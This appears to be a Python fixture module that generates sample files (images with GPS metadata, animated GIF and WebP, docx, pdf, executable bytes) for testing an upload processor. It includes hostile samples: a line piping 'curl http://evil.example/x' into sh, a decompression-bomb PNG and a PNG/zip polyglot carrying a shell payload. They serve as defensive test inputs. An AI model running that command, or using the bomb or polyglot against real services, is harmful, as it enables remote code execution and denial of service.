"""Real files for the files tests, made here with Pillow and the standard library (no tests inside).

The photo is 60x40 with a red left half and a blue right half, tagged with EXIF
orientation 6 (display rotated 90 degrees clockwise): correctly processed it is
40x60, red on top, blue below. Every sample that can carry metadata carries GPS
coordinates and a comment with the marker SECRET, which must never come back.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path

from PIL import ExifTags, Image, ImageCms, PngImagePlugin

SECRET = b"SECRET-GPS-MARKER"
LAT = (52.0, 31.0, 12.0)


def _exif(orientation: int = 6) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.ImageDescription] = SECRET.decode()
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: LAT,
        ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (13.0, 24.0, 36.0),
    }
    return exif


def _halves(mode: str = "RGB") -> Image.Image:
    red = (255, 0, 0, 255) if mode == "RGBA" else (255, 0, 0)
    blue = (0, 0, 255, 255) if mode == "RGBA" else (0, 0, 255)
    im = Image.new(mode, (60, 40), red)
    im.paste(blue, (30, 0, 60, 40))
    return im


def jpeg_with_gps() -> bytes:
    bio = io.BytesIO()
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    _halves().save(bio, "JPEG", quality=95, exif=_exif(), comment=SECRET, icc_profile=icc)
    return bio.getvalue()


def png_with_gps() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SECRET.decode())
    info.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{SECRET.decode()}</x:xmpmeta>")
    bio = io.BytesIO()
    _halves("RGBA").save(bio, "PNG", exif=_exif(), pnginfo=info)
    return bio.getvalue()


def plain_png(size: tuple[int, int] = (64, 48), color: str = "green") -> bytes:
    bio = io.BytesIO()
    Image.new("RGB", size, color).save(bio, "PNG")
    return bio.getvalue()


def animated_gif() -> bytes:
    frames = [Image.new("RGB", (50, 30), c) for c in ("red", "lime", "blue")]
    bio = io.BytesIO()
    frames[0].save(bio, "GIF", save_all=True, append_images=frames[1:], duration=[100, 200, 300],
                   loop=0, comment=SECRET)
    return bio.getvalue()


def webp(animated: bool = False) -> bytes:
    bio = io.BytesIO()
    if animated:
        frames = [Image.new("RGB", (50, 30), c) for c in ("red", "lime", "blue")]
        frames[0].save(bio, "WEBP", save_all=True, append_images=frames[1:], duration=100, loop=0,
                       exif=_exif(1))
    else:
        _halves().save(bio, "WEBP", quality=95, exif=_exif())
    return bio.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_png(side: int = 30000) -> bytes:
    """A valid 1-bit PNG of side x side pixels (900 megapixels) that is ~100 KiB on disk."""
    row = b"\x00" + bytes((side + 7) // 8)
    comp = zlib.compressobj(9)
    idat = b"".join(comp.compress(row) for _ in range(side)) + comp.flush()
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
            + _chunk(b"IDAT", idat) + _chunk(b"IEND", b""))


def zip_bytes(entries: dict[str, bytes] | None = None) -> bytes:
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in (entries or {"payload.sh": b"#!/bin/sh\necho owned\n"}).items():
            zf.writestr(name, data)
    return bio.getvalue()


def polyglot_png_zip() -> bytes:
    """A PNG that is also a zip archive (trailing payload after IEND)."""
    return png_with_gps() + zip_bytes()


def docx() -> bytes:
    ct = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
          'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
    return zip_bytes({"[Content_Types].xml": ct.encode(), "_rels/.rels": b"<Relationships/>",
                      "word/document.xml": b"<w:document/>"})


def pdf() -> bytes:
    return (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")


def elf() -> bytes:
    """The start of a real executable (this Python interpreter)."""
    with open(Path(sys.executable).resolve(), "rb") as fh:
        return fh.read(64 * 1024)


SHELL_SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
TEXT = "Hello, world. Grüße!\n".encode() * 20
